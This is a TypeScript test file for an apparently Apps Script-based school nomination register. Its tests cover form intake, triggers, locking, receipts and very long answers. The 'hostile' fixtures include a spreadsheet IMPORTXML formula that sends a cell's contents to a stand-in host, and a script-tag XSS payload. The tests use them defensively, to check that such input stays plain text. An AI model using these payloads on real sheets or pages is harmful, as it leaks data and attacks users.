import { expect, test } from "vitest";
import type { LocalAppsScript } from "../../../local/local-apps-script";
import { tabRows } from "../../../scripts/fresh-register";
import { said, typeInto } from "../../support/register";
import {
  clickReceive,
  clickUpdateForms,
  collective,
  fire,
  individual,
  linksOf,
  list,
  nominationForm,
  nominations,
  openingDay,
  openRegister,
  pass,
  reviewName,
  rowsOf,
  send,
  submit,
  submitReport,
} from "../../support/review";

const addMode = { "Lần gửi này là": "Bổ sung thêm" };

/** All that intake writes. */
function taken(script: LocalAppsScript): unknown {
  const tabs = ["Hồ sơ gửi về", "Đề nghị", "Kết quả kiểm tra", "Chờ xử lý", "Danh sách thay thế"];
  return [...tabs, "Báo cáo đơn vị", "Tình hình nộp", "Thư"].map((tab) => tabRows(script, tab));
}

/** The answers the ledger keeps of a submission, put together from its parts. */
function ledgerAnswers(script: LocalAppsScript, submission: string): Readonly<Record<string, string>> {
  const parts = tabRows(script, "Hồ sơ gửi về").filter((row) => row["Mã lần gửi"] === submission);
  const text = [...parts]
    .sort((a, b) => Number(a.Phần) - Number(b.Phần))
    .map((row) => row["Nội dung"])
    .join("");
  const answers: readonly { readonly title: string; readonly answer: string }[] = JSON.parse(text);
  return Object.fromEntries(answers.map(({ title, answer }) => [title, answer]));
}

test("the secretary is told what came, what was mailed and where the review stands", () => {
  const script = openRegister();
  submit(script, "K-MOC", list([["001", "Trần Văn Thử", "CSTĐCS; LĐTT", ""]]));
  submitReport(script, "TT-NN");
  nominationForm(script).submit(individual("2", "Ai Đó", { "Mã nộp của đơn vị": "sai" }));
  expect(said(clickReceive(script))).toEqual([
    "Nhận hồ sơ: " +
      [
        "Đã nhận 3 lần gửi mới.",
        "Đã gửi 1 thư.",
        `Kỳ xét “${reviewName}”: 2 đề nghị; 1 bị chặn, 0 cần xem xét, 1 có cảnh báo.\n1 dòng ở tab “Chờ xử lý”.`,
      ].join("\n\n"),
  ]);
  expect(said(clickReceive(script))).toEqual([
    "Nhận hồ sơ: " +
      [
        "Không có lần gửi nào mới.",
        "Không có thư nào phải gửi.",
        `Kỳ xét “${reviewName}”: 2 đề nghị; 1 bị chặn, 0 cần xem xét, 1 có cảnh báo.\n1 dòng ở tab “Chờ xử lý”.`,
      ].join("\n\n"),
  ]);
});

test("a review of a school year that nobody knows is not derived: the secretary is told which cell", () => {
  const script = openRegister();
  typeInto(script, "Kỳ xét", 2, "Năm học", "2020-2021");
  expect(said(clickReceive(script)).join()).toContain(
    "Không có năm học mã “2020-2021” (tab “Kỳ xét”, dòng 2, cột “Năm học”). Chọn một mã có trong tab “Năm học”, hoặc thêm năm học vào tab đó.",
  );
});

test("blank, doubled and foreign events take a response in once", () => {
  const script = openRegister();
  const once = openRegister();
  for (const each of [script, once]) submit(each, "K-MOC", individual("001", "Trần Văn Thử"));
  const { id } = nominationForm(script);
  for (const event of [{}, { response: null }, undefined, { namedValues: { "Họ và tên": [""] } }])
    script.fireFormTriggers(id, event);
  once.fireFormTriggers(id);
  expect(taken(script)).toEqual(taken(once));
  expect(script.mails()).toEqual(once.mails());
  expect(rowsOf(script, "Nhật ký", ["Lệnh"]).filter(([command]) => command === "Nhận hồ sơ")).toHaveLength(1);
});

test("an event that was lost is made up for by the next one, and by the hourly run", () => {
  const script = openRegister();
  submit(script, "K-MOC", individual("001", "Trần Văn Thử"));
  pass(script, 90);
  send(script, "P-DT", individual("006", "Vũ Thị Bảng"));
  expect(nominations(script).map(([, , name]) => name)).toEqual(["Trần Văn Thử", "Vũ Thị Bảng"]);
  submit(script, "TT-NN", individual("010", "Lý Thị Trang"));
  pass(script, 59);
  script.fireClockTriggers();
  expect(nominations(script).map(([, , name]) => name)).toEqual([
    "Trần Văn Thử",
    "Vũ Thị Bảng",
    "Lý Thị Trang",
  ]);
});

test("what no trigger told of for a night is found by the hourly run in the morning", () => {
  const script = openRegister();
  submit(script, "K-MOC", individual("001", "Trần Văn Thử"));
  pass(script, 12 * 60);
  script.fireClockTriggers();
  expect(nominations(script).map(([, , name]) => name)).toEqual(["Trần Văn Thử"]);
});

test("of two triggers at once the second finds the register busy; the hourly run takes its response in", () => {
  const script = openRegister();
  const { formId } = submit(script, "K-MOC", individual("001", "Trần Văn Thử"));
  const release = script.holdLock("script");
  expect(script.fireFormTriggers(formId).map(({ error }) => error)).toEqual([undefined]);
  expect(said(clickReceive(script))).toEqual([
    "Nhận hồ sơ: chưa làm gì, cần sửa trước: • Sổ đang được một lệnh khác ghi. Đợi một phút rồi bấm lại; chưa có gì bị thay đổi.",
  ]);
  release();
  expect(nominations(script)).toEqual([]);
  script.fireClockTriggers();
  expect(nominations(script).map(([, , name]) => name)).toEqual(["Trần Văn Thử"]);
  expect(rowsOf(script, "Thư", ["Loại thư", "Trạng thái"])[2]).toEqual(["Giấy nhận", "Đã gửi"]);
});

test("another account cannot receive: it reaches no form", () => {
  const script = openRegister();
  script.user = "khac@truong.example";
  expect(said(clickReceive(script))[0]).toContain("do tài khoản thidua@truong.example vận hành");
});

/** Every cell of every tab: what it holds, and whether that is a formula. */
function formulas(script: LocalAppsScript): readonly string[] {
  const { spreadsheet } = script;
  return spreadsheet.sheetNames().flatMap((tab) => {
    const sheet = spreadsheet.sheet(tab);
    return sheet
      .values()
      .flatMap((row, at) =>
        row.flatMap((_, column) =>
          sheet.cell(at + 1, column + 1).isFormula ? [`${tab} ${at + 1},${column + 1}`] : [],
        ),
      );
  });
}

const hostile: Readonly<Record<string, string>> = {
  formula: '=IMPORTXML("https://xau.example/?d="&A1;"//a")',
  plus: "+84 900 000 000",
  apostrophe: "'=1+1",
  tag: "{#rows}{tên}{/rows}",
  script: '<script>alert("x")</script><b>đậm</b>',
  date: "01/3",
  zeros: "007",
  zeroWidth: "Nguyễn\u200b Văn\u00a0\ufeffẨn",
  decomposed: "Nguyễn Thị Hoà".normalize("NFD"),
  emoji: "Lê 👩‍🏫 Mẫu 🇻🇳",
  controls: "Dòng một\r\nDòng hai\tcột\u0007\u2028cuối",
  lone: "nửa \ud83d chữ",
};

test.each(Object.entries(hostile))("a hostile answer is stored and shown as text: %s", (_, text) => {
  const script = openRegister();
  const line = text.replace(/[\r\n]+/g, " ");
  const answers = individual("001", line, {
    "Tóm tắt thành tích của cá nhân": text,
    "Chức vụ": line,
    "Minh chứng của cá nhân": text,
  });
  const { id } = send(script, "K-MOC", answers);
  expect(ledgerAnswers(script, `${id}#1`)).toEqual({
    ...Object.fromEntries(
      Object.entries(answers).map(([title, value]) => [title, [value].flat().join("\n")]),
    ),
    "Mã nộp của đơn vị": linksOf(script, "K-MOC").token,
  });
  const rows = rowsOf(script, "Đề nghị", ["Mã người, tập thể", "Mã danh hiệu", "Trạng thái"]);
  expect(rows).toEqual([["001", "LDTT", "Đang đề nghị"]]);
  // On the tab of nominations it is shown in NFC and without what cannot be seen.
  const shown = rowsOf(script, "Đề nghị", ["Tóm tắt thành tích", "Nơi có minh chứng"])[0];
  if (/^[\x20-\x7eÀ-ỹ]*$/.test(text))
    expect(shown).toEqual([text, text].map((each) => each.normalize("NFC")));
  expect(formulas(script)).toEqual([]);
  expect(said(clickReceive(script))[0]).toContain("Không có lần gửi nào mới.");
  expect(script.mails()).toHaveLength(3);
  expect(script.mails()[2]?.htmlBody).toBe("");
});

test("hostile answers as the register shows them, and the mail", () => {
  const script = openRegister();
  const names = ["formula", "tag", "script", "decomposed"].map((name) => hostile[name] ?? "");
  names.forEach((name, at) => {
    send(script, "K-MOC", individual(`00${at}`, name, at > 0 ? addMode : {}));
  });
  expect(rowsOf(script, "Đề nghị", ["Họ tên, tập thể"]).flat()).toEqual(
    names.map((name) => name.normalize("NFC")),
  );
  expect(
    script
      .mails()
      .slice(2)
      .map(({ body }) => body.split("\n").find((line) => line.startsWith("1. "))),
  ).toEqual(names.map((name) => `1. ${name.normalize("NFC")} - Lao động tiên tiến`));
});

test.each([50_000, 200_000])("an answer of %d characters is kept whole in parts of the ledger", (length) => {
  const script = openRegister();
  const unit = `Đoạn 👩‍🏫 "có nháy" \\ ${"Hoà".normalize("NFD")}\n`;
  const text = unit.repeat(Math.ceil(length / unit.length)).slice(0, length - 1);
  const summary = { "Tóm tắt thành tích của cá nhân": `${text}.` };
  const { id } = send(script, "K-MOC", individual("001", "Trần Văn Thử", summary));
  expect(ledgerAnswers(script, `${id}#1`)["Tóm tắt thành tích của cá nhân"]).toBe(`${text}.`);
  const parts = rowsOf(script, "Hồ sơ gửi về", ["Phần", "Số phần"]);
  expect(parts.length).toBeGreaterThan(length / 50_000);
  expect(parts).toEqual(parts.map((_, at) => [String(at + 1), String(parts.length)]));
  const shown = rowsOf(script, "Đề nghị", ["Tóm tắt thành tích"])[0]?.[0] ?? "";
  expect(shown).toMatch(/… \(xem nguyên văn ở tab “Hồ sơ gửi về”\)$/);
  expect(shown.length).toBeLessThanOrEqual(50_000);
  const visible = text.normalize("NFC").replaceAll("\u200d", "");
  expect(visible.startsWith(shown.slice(0, 44_900))).toBe(true);
  expect(said(clickReceive(script))[0]).toContain("Không có lần gửi nào mới.");
});

test("a pasted list of 200.000 characters: every line is a nomination or told", () => {
  const script = openRegister();
  const lines = Array.from({ length: 2_000 }, (_, n) => [
    `M${n}`,
    `Người Thứ ${n} ${"dài ".repeat(20)}`,
    n % 10 === 0 ? "Lạ" : "LĐTT",
    "",
  ]);
  send(script, "K-MOC", list(lines));
  const nominated = rowsOf(script, "Đề nghị", ["Mã người, tập thể"]).flat();
  const told = rowsOf(script, "Chờ xử lý", ["Nguyên văn"]).map(([text = ""]) => text.split("\t")[0] ?? "");
  expect([...nominated, ...told].sort()).toEqual(lines.map(([code = ""]) => code).sort());
  expect(told).toHaveLength(200);
  const receipt = script.mails()[2]?.body ?? "";
  expect(receipt).toContain("Danh sách đã đọc được, 1800 dòng:\n1. Người Thứ 1 dài");
  expect(receipt).toMatch(
    /\n… và \d+ dòng nữa\.\n\nCác cột của danh sách được hiểu là: [^\n]+\.\n\nChưa đọc được 200 chỗ/,
  );
  expect(receipt.length).toBeLessThan(35_000);
});

test.each(["a", "\u{1D160}"])("every answer 50.000 times %j: taken in, and the others, too", (char) => {
  const script = openRegister();
  const long = char.repeat(50_000);
  const form = nominationForm(script);
  const { token } = linksOf(script, "K-MOC");
  const titles = form
    .pages()
    .flatMap(({ items }) => items)
    .filter(({ type }) => type === "TEXT" || type === "PARAGRAPH_TEXT")
    .map(({ title }) => title);
  const answers = Object.fromEntries(titles.map((title) => [title, long]));
  const shapes = ["Một cá nhân", "Một tập thể", "Danh sách dán từ bảng tính"];
  for (const shape of shapes)
    form.submitRaw({
      ...individual("", ""),
      ...collective(""),
      ...answers,
      "Danh sách đề nghị": `Mã\tHọ và tên\tDanh hiệu\tXếp loại\n${long}\t${long}\tLĐTT\t${long}\n1\t${long}\t${long}`,
      "Cách gửi": shape,
      "Mã nộp của đơn vị": token,
    });
  form.submitRaw({ "Mã nộp của đơn vị": long, "Lần gửi này là": "Rút đề nghị", "Họ và tên": long });
  pass(script, 1);
  send(script, "P-DT", individual("006", "Vũ Thị Bảng"));
  expect(tabRows(script, "Đề nghị").some((row) => row["Họ tên, tập thể"] === "Vũ Thị Bảng")).toBe(true);
  expect(said(clickReceive(script))[0]).toContain("Không có lần gửi nào mới.");
});

test("a response to a question that is asked no more keeps its answer in the ledger", () => {
  const script = openRegister();
  const targets = script.spreadsheet.sheet("Chỉ tiêu");
  targets.clear(3, 1, 1, 4);
  clickUpdateForms(script);
  const { id } = submitReport(script, "K-MOC");
  clickReceive(script);
  expect(ledgerAnswers(script, `${id}#1`)).toMatchObject({
    "Kết quả chỉ tiêu 2: Mỗi khoa có ít nhất 02 tiết hội giảng": "03 tiết",
  });
  expect(rowsOf(script, "Báo cáo đơn vị", ["Kết quả so với chỉ tiêu"])[0]?.[0]).toContain("03 tiết");
});

test("what a program sends past the form's page is taken in, or told, never dropped", () => {
  const script = openRegister();
  const { token } = linksOf(script, "K-MOC");
  const raw = nominationForm(script).submitRaw({
    "Mã nộp của đơn vị": ` ${token.toLowerCase()} `,
    "Lần gửi này là": "Xóa hết",
    "Cách gửi": "Một cá nhân",
    "Họ và tên": "Trần Văn Thử",
    "Danh hiệu đề nghị cho cá nhân": ["LDTT - Lao động tiên tiến", "ABC - Không có"],
    "Tên tập thể": "Khoa Mộc",
    "Ngày họp bình xét": "hôm qua",
  });
  fire(script, raw);
  expect(nominations(script)).toEqual([["K-MOC", "", "Trần Văn Thử", "LDTT", "Đang đề nghị"]]);
  expect(rowsOf(script, "Chờ xử lý", ["Lý do"]).flat()).toEqual([
    "Câu “Lần gửi này là”: không có lựa chọn này",
    "Câu “Ngày họp bình xét”: không phải là một ngày, ví dụ 03/7/2023",
    "“ABC - Không có” không phải là danh hiệu của trường",
    "Phần “Một tập thể” có ghi, nhưng hồ sơ chọn cách nộp khác",
  ]);
});

test("a response with nothing in it is told, and no mail goes", () => {
  const script = openRegister();
  fire(script, nominationForm(script).submitRaw({}));
  expect(nominations(script)).toEqual([]);
  expect(rowsOf(script, "Chờ xử lý", ["Lý do"]).flat()).toEqual([
    "Chưa rõ nguồn: không có mã nộp; chọn đơn vị ở cột “Gán cho đơn vị” rồi bấm Kiểm tra lại",
  ]);
  expect(script.mails()).toHaveLength(2);
  expect(script.now.getTime()).toBe(openingDay.getTime() + 60_000);
});
